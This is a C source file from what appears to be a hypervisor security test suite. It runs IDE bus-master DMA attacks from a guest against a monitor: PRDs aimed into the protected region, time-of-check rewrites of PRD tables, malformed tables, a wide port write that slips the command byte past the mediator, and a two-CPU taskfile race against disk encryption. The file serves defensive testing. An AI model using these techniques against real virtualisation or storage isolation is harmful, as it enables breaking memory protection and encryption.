/* IDE bus-master DMA at the monitor (PIIX IDE, primary master, a scratch disk; ata_piix is
 * unbound first so the attacker owns the channel): PRDs into and out of the region, the PRD
 * table itself in the region, tables rewritten after the command (TOCTOU), malformed tables,
 * the wide `out` at 0x1F6 that carries the command byte past the mediator (issue 12, 1), and
 * the taskfile rewritten by a second CPU around the command byte (issue 12, 9). */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/io.h>
#include <unistd.h>

#include "tva.h"

/* glibc's port I/O has no memory clobber: fence the PRD table writes around every access. */
#define OUTB(v, p) (barrier(), outb(v, p), barrier())
#define OUTW(v, p) (barrier(), outw(v, p), barrier())
#define OUTL(v, p) (barrier(), outl(v, p), barrier())

enum { CMD = 0x1f0, CTRL = 0x3f6, ATA_READ_DMA = 0xc8, ATA_WRITE_DMA = 0xca, EOT = 0x80000000u };

static struct pcidev ide;
static uint16_t bm;
static int ide_ready = -1;
static struct dpage prd, buf;

static int ide_setup(const char *name)
{
    if (ide_ready >= 0) {
        if (!ide_ready)
            skipped(name, "no PIIX IDE controller with a bus-master BAR");
        return ide_ready;
    }
    ide_ready = 0;
    if (pci_find(0, 0, 0xffff00, 0x010100, &ide) < 0 || !ide.bar[4] || dma_page(&prd) || dma_page(&buf)) {
        skipped(name, "no PIIX IDE controller with a bus-master BAR");
        return 0;
    }
    if (pci_unbind(&ide) < 0)
        note("could not unbind ata_piix from %s", ide.bdf);
    pci_cfg_write(&ide, 4, 2, pci_cfg_read(&ide, 4, 2) | 0x5); /* I/O + bus master */
    bm = (uint16_t)ide.bar[4];
    OUTB(0x02, CTRL); /* nIEN: nobody handles IRQ 14 now */
    ide_ready = 1;
    note("IDE %s, bus master at %#x, PRD page %#llx, buffer %#llx", ide.bdf, bm, (unsigned long long)prd.p,
         (unsigned long long)buf.p);
    return 1;
}

/* The scratch disk: the primary master under QEMU; under Bochs the guest's own disk is the
 * master (BIOS drive 0x80) and the scratch disk the slave (--targets ide_dev=0xf0). */
static uint8_t dev_sel(void) { return T.ide_dev ? (uint8_t)T.ide_dev : 0xe0; }

static int wait_not_busy(double secs)
{
    double end = now_s() + secs;
    uint8_t s;
    while (((s = inb(CMD + 7)) & 0x80) && now_s() < end)
        ;
    return s;
}

static void taskfile(uint32_t lba, uint8_t count)
{
    wait_not_busy(1);
    OUTB(dev_sel() | (lba >> 24 & 0x0f), CMD + 6);
    wait_not_busy(1);
    OUTB(count, CMD + 2);
    OUTB(lba & 0xff, CMD + 3);
    OUTB(lba >> 8 & 0xff, CMD + 4);
    OUTB(lba >> 16 & 0xff, CMD + 5);
}

static void bm_prepare(uint32_t table)
{
    OUTB(0, bm);
    OUTB(0x06, bm + 2); /* clear interrupt and error */
    OUTL(table, bm + 4);
}

/* Waits for the DMA to end; returns the ATA status (ERR = bit 0). */
static uint8_t bm_finish(void)
{
    double end = now_s() + 2;
    while (!(inb(bm + 2) & 0x04) && (inb(bm + 2) & 0x01) && now_s() < end)
        ;
    uint8_t st = wait_not_busy(1);
    OUTB(0, bm);
    OUTB(0x06, bm + 2);
    return st;
}

/* One DMA command; hook (may be NULL) runs right after the start bit, once the monitor has
 * taken its copy of the PRD table (a rewrite before the start is simply validated). */
static uint8_t ide_dma(int write, uint32_t lba, uint8_t count, uint32_t table, void (*hook)(void))
{
    taskfile(lba, count);
    bm_prepare(table);
    OUTB(write ? ATA_WRITE_DMA : ATA_READ_DMA, CMD + 7);
    OUTB(write ? 0x01 : 0x09, bm); /* bit 3: the device writes memory (an ATA read) */
    if (hook)
        hook();
    return bm_finish();
}

static void set_prd(int i, uint64_t addr, uint32_t bytes, int eot)
{
    uint32_t *e = (uint32_t *)prd.v + i * 2;
    e[0] = (uint32_t)addr;
    e[1] = (bytes & 0xffff) | (eot ? EOT : 0);
}

/* A mediated, well-formed read of one sector into buf; returns its status. */
static uint8_t read_back(uint32_t lba)
{
    memset(buf.v, 0, 512);
    set_prd(0, buf.p, 512, 1);
    return ide_dma(0, lba, 1, (uint32_t)prd.p, NULL);
}

static void judge_disk(const char *name, uint32_t lba, uint8_t st, const char *how)
{
    uint8_t rs = read_back(lba);
    if (!all_zero(buf.v, 512)) {
        hexdump_line(name, buf.v, 64);
        breach(name, "LBA %u now holds data%s (status %#x, read-back %#x)", lba,
               has_canary_prefix(buf.v, 512) ? " with the canary prefix" : "", st, rs);
    } else if (st & 1)
        defended(name, "%s: aborted (status %#x), LBA %u still zero", how, st, lba);
    else
        defended(name, "%s: status %#x, LBA %u still zero (host scans the disk)", how, st, lba);
}

static void ide_dma_read_into_monitor(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    set_prd(0, slice(3), 512, 1);
    uint8_t st = ide_dma(0, 64, 1, (uint32_t)prd.p, NULL);
    if (st & 1)
        defended(name, "READ DMA with its PRD in the region aborted (status %#x)", st);
    else
        breach(name, "READ DMA into the region completed (status %#x)", st);
}

static void ide_dma_write_from_monitor(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    set_prd(0, T.ide_bounce ? T.ide_bounce : T.code, 512, 1);
    judge_disk(name, 128, ide_dma(1, 128, 1, (uint32_t)prd.p, NULL), "WRITE DMA from the region");
}

static void ide_prd_table_in_monitor(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    judge_disk(name, 192, ide_dma(1, 192, 1, (uint32_t)slice(15), NULL), "PRD table in the region");
}

static void rewrite_to_slice5(void) { set_prd(0, slice(5), 512, 1); }
static void rewrite_to_code(void) { set_prd(0, T.heap ? T.heap : T.data, 512, 1); }

static void ide_toctou_read(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    memset(buf.v, 0x77, 512); /* a known sector, then read it with the table rewritten late */
    set_prd(0, buf.p, 512, 1);
    uint8_t w = ide_dma(1, 256, 1, (uint32_t)prd.p, NULL);
    memset(buf.v, 0, 512);
    set_prd(0, buf.p, 512, 1);
    uint8_t st = ide_dma(0, 256, 1, (uint32_t)prd.p, rewrite_to_slice5);
    int landed = buf.v[0] == 0x77 && buf.v[511] == 0x77;
    if (st & 1)
        defended(name, "aborted (status %#x)", st);
    else if (landed)
        defended(name, "the sector landed in the buffer named at the command (write %#x, read %#x)", w, st);
    else
        breach(name, "the rewritten PRD was followed: the data did not reach the original buffer (status %#x)", st);
}

static void ide_toctou_write(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    memset(buf.v, 0x77, 512);
    set_prd(0, buf.p, 512, 1);
    uint8_t st = ide_dma(1, 320, 1, (uint32_t)prd.p, rewrite_to_code);
    uint8_t rs = read_back(320);
    if (has_canary_prefix(buf.v, 512) || (!(st & 1) && buf.v[0] != 0x77)) {
        hexdump_line(name, buf.v, 64);
        breach(name, "the disk got the rewritten PRD's data (status %#x, read-back %#x)", st, rs);
    } else
        defended(name, "the disk holds the data named at the command (status %#x)", st);
}

static void malformed(const char *name, uint32_t lba, uint64_t addr, uint32_t bytes, int entries, int eot)
{
    if (ide_setup(name) != 1)
        return;
    for (int i = 0; i < entries; i++)
        set_prd(i, addr, bytes, eot && i == entries - 1);
    uint8_t st = ide_dma(1, lba, 1, (uint32_t)prd.p, NULL);
    memset(prd.v, 0, 4096);
    if (st & 1)
        defended(name, "refused (status %#x)", st);
    else
        breach(name, "the monitor passed a malformed PRD table (status %#x)", st);
}

static void ide_prd_zero_length(const char *name) { malformed(name, 384, buf.p, 0, 1, 1); }
static void ide_prd_wrap(const char *name) { malformed(name, 448, 0xffffff00u, 512, 1, 1); }
static void ide_prd_oversized(const char *name) { malformed(name, 512, buf.p, 0x8000, 1, 1); }
static void ide_prd_no_eot(const char *name) { malformed(name, 576, buf.p, 2, 512, 0); }

/* Issue 12, item 1: a 16-bit out at 0x1F6 writes 0x1F6 and 0x1F7 (the command register). */
static void ide_wide_out_1f6(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    set_prd(0, T.data, 512, 1);
    taskfile(640, 1);
    bm_prepare((uint32_t)prd.p);
    OUTW((uint16_t)(ATA_WRITE_DMA << 8 | dev_sel()), CMD + 6);
    OUTB(0x01, bm);
    judge_disk(name, 640, bm_finish(), "WRITE DMA through a 16-bit out at 0x1F6");
}

static void ide_pio_4kn(const char *name)
{
    skipped(name, "needs a 4096-byte-sector ATA disk: QEMU 7.2 refuses logical_block_size=4096 on ide-hd, Bochs "
                  "2.7's sect_size=4096 disk reports 512-byte sectors in IDENTIFY (docs/security.md, 'what is still "
                  "skipped'); the overflow is covered by the host tests of the PIO path");
}

/* Issue 12, item 9: while CPU 0 issues WRITE DMA and WRITE SECTORS of a plaintext marker to LBA
 * 704-767 (the disk's unencrypted range), CPU 1 rewrites the device, count and LBA registers to
 * LBA 9000 + the round (in the encrypted range). Two ways: all through the command (the monitor latches
 * whichever values are there at the command byte), and only while a DMA command waits in the
 * monitor for its start bit, which the attacker holds back 2 ms: the device is idle then and
 * takes the writes. The monitor must run each command on what it checked: a marker in clear at
 * an LBA of 8192 or more (the host scans the disk) means a command ran on the encrypted range
 * without encryption. */
enum { RACE_LBA = 9000, RACE_ROUNDS = 120, ATA_WRITE_SECTORS = 0x30 };

static volatile int race_stop, race_go, race_idle;
static volatile long race_rewrites;
static volatile uint32_t race_lba; /* RACE_LBA + the round: no round's evidence overwrites another's */

/* A thread, not a process: a forked child would leave the DMA pages copy-on-write, and the
 * attacker's next write to its PRD table would move it to another physical page. */
static void *racer(void *arg)
{
    (void)arg;
    cpu_set_t one;
    CPU_ZERO(&one);
    CPU_SET(1, &one);
    if (sched_setaffinity(0, sizeof one, &one) < 0)
        return NULL;
    while (!race_stop) {
        race_idle = !race_go;
        if (!race_go)
            continue;
        outb(dev_sel(), CMD + 6);
        outb(1, CMD + 2);
        uint32_t lba = race_lba;
        outb(lba & 0xff, CMD + 3);
        outb(lba >> 8 & 0xff, CMD + 4);
        outb(lba >> 16 & 0xff, CMD + 5);
        ++race_rewrites;
    }
    return NULL;
}

static void race(int on)
{
    race_go = on;
    barrier();
    double end = now_s() + 0.1;
    while (!on && !race_idle && now_s() < end)
        ;
    if (on)
        sleep_ms(2);
}

static uint8_t pio_write(uint32_t lba)
{
    taskfile(lba, 1);
    OUTB(ATA_WRITE_SECTORS, CMD + 7);
    double end = now_s() + 1;
    uint8_t st;
    while (((st = inb(CMD + 7)) & 0x88) != 0x08 && !(st & 1) && now_s() < end)
        ;
    if ((st & 0x89) == 0x08) {
        barrier();
        outsw(CMD, buf.v, 256);
        barrier();
    }
    return wait_not_busy(1);
}

/* WRITE DMA with the start bit held back while CPU 1 rewrites the idle device's registers. */
static uint8_t dma_write_held(uint32_t lba)
{
    taskfile(lba, 1);
    bm_prepare((uint32_t)prd.p);
    OUTB(ATA_WRITE_DMA, CMD + 7);
    race(1);
    race(0);
    OUTB(0x01, bm);
    return bm_finish();
}

static void ide_taskfile_race(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    if (sysconf(_SC_NPROCESSORS_ONLN) < 2) {
        skipped(name, "needs a second guest CPU");
        return;
    }
    cpu_set_t zero;
    CPU_ZERO(&zero);
    CPU_SET(0, &zero);
    sched_setaffinity(0, sizeof zero, &zero);
    pthread_t t;
    if (pthread_create(&t, NULL, racer, NULL)) {
        skipped(name, "no racer thread");
        return;
    }
    int done = 0, failed = 0;
    for (int i = 0; i < RACE_ROUNDS; i++) {
        memset(buf.v, 0x5a, 512);
        snprintf((char *)buf.v, 32, "TVRACE%04d", i);
        set_prd(0, buf.p, 512, 1);
        uint32_t lba = 704 + (uint32_t)i % 64;
        race_lba = RACE_LBA + (uint32_t)i;
        uint8_t st;
        if (i % 3 == 0) {
            st = dma_write_held(lba);
        } else {
            race(1);
            st = i % 3 == 1 ? pio_write(lba) : ide_dma(1, lba, 1, (uint32_t)prd.p, NULL);
            race(0);
        }
        if (st & 1)
            failed++;
        else
            done++;
    }
    race_stop = 1;
    pthread_join(t, NULL);
    long n = race_rewrites;
    if (n < RACE_ROUNDS)
        skipped(name, "CPU 1 rewrote the taskfile only %ld times: no race", n);
    else
        defended(name, "%d WRITE DMA/SECTORS of a clear marker to LBA 704-767 (%d completed, %d failed; a third with "
                       "the start bit held back) while CPU 1 rewrote device, count and LBA to %d+ %ld times (the host "
                       "scans the disk's encrypted range)", RACE_ROUNDS, done, failed, RACE_LBA, n);
}


/* READ LOG EXT (2Fh) by PIO: `count` 512-byte log pages (0: 65536) of log `log`, page `page`
 * (LBA 7:0 the log, 15:8 and 39:32 the page). Reads up to `words` 16-bit words into buf (the
 * data port is the mediator's), then ends the command with a soft reset. Returns the status
 * after the command byte; *got: the words read. */
enum { ATA_READ_LOG_EXT = 0x2f };

static uint8_t read_log_pio(uint8_t log, uint16_t page, uint16_t count, int words, int *got)
{
    wait_not_busy(1);
    OUTB(dev_sel(), CMD + 6);
    wait_not_busy(1);
    OUTB(0, CMD + 1), OUTB(count >> 8, CMD + 2), OUTB(0, CMD + 3), OUTB(page >> 8, CMD + 4), OUTB(0, CMD + 5);
    OUTB(0, CMD + 1), OUTB(count & 0xff, CMD + 2), OUTB(log, CMD + 3), OUTB(page & 0xff, CMD + 4), OUTB(0, CMD + 5);
    OUTB(ATA_READ_LOG_EXT, CMD + 7);
    uint8_t st = (uint8_t)wait_not_busy(2), first = st;
    memset(buf.v, 0, 4096);
    uint16_t *w = (uint16_t *)buf.v;
    *got = 0;
    while (*got < words && (st & 0x08) && !(st & 0x01)) {
        w[(*got)++] = inw(CMD);
        if (*got % 256 == 0)
            st = (uint8_t)wait_not_busy(1);
    }
    OUTB(0x06, CTRL); /* SRST: end a command of 65536 pages */
    sleep_ms(5);
    OUTB(0x02, CTRL);
    wait_not_busy(2);
    return first;
}

static void ide_read_log_huge_count(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    int got = 0;
    uint8_t st = read_log_pio(0x10, 0, 0, 1024, &got); /* 65536 pages; two read */
    int canary = has_canary_prefix(buf.v, 2048);
    uint8_t after = read_back(64);
    if (canary)
        breach(name, "the log pages read by PIO carry the canary prefix");
    else if (after & 1)
        breach(name, "after READ LOG EXT of 65536 pages the channel no longer reads (status %#x)", after);
    else
        defended(name, "READ LOG EXT of 65536 pages: status %#x, %d words read, then a soft reset; the channel reads "
                       "after it", st, got);
}

static void ide_read_log_encrypted(const char *name)
{
    if (ide_setup(name) != 1)
        return;
    int got = 0;
    /* page 0x20: the LBA field reads 0x2010, inside the disk's encrypted range (8192 on) */
    uint8_t st = read_log_pio(0x10, 0x20, 1, 256, &got);
    uint8_t sum = 0;
    for (int i = 0; i < 512; i++)
        sum = (uint8_t)(sum + buf.v[i]);
    if (got < 256)
        defended(name, "the device ended READ LOG EXT page 0x20 after %d words (status %#x): no page to decrypt", got,
                 st);
    else if (all_zero(buf.v, 512) || sum == 0)
        defended(name, "the log page on the encrypted disk reads as device data (status %#x)", st);
    else {
        hexdump_line(name, buf.v, 32);
        breach(name, "the log page on the encrypted disk is neither zero nor checksummed: decrypted? (status %#x)", st);
    }
}

const struct attack ide_attacks[] = {
    {"ide-dma-read-into-monitor", ide_dma_read_into_monitor},
    {"ide-dma-write-from-monitor", ide_dma_write_from_monitor},
    {"ide-prd-table-in-monitor", ide_prd_table_in_monitor},
    {"ide-toctou-read", ide_toctou_read},
    {"ide-toctou-write", ide_toctou_write},
    {"ide-prd-zero-length", ide_prd_zero_length},
    {"ide-prd-wrap", ide_prd_wrap},
    {"ide-prd-oversized", ide_prd_oversized},
    {"ide-prd-no-eot", ide_prd_no_eot},
    {"ide-wide-out-1f6", ide_wide_out_1f6},
    {"ide-pio-4kn", ide_pio_4kn},
    {"ide-read-log-huge-count", ide_read_log_huge_count},
    {"ide-read-log-encrypted", ide_read_log_encrypted},
    {NULL, NULL},
};

/* In the fatal boot, which has two CPUs and a keyed IDE disk. */
const struct attack ide_race_attacks[] = {
    {"ide-taskfile-race", ide_taskfile_race},
    {NULL, NULL},
};
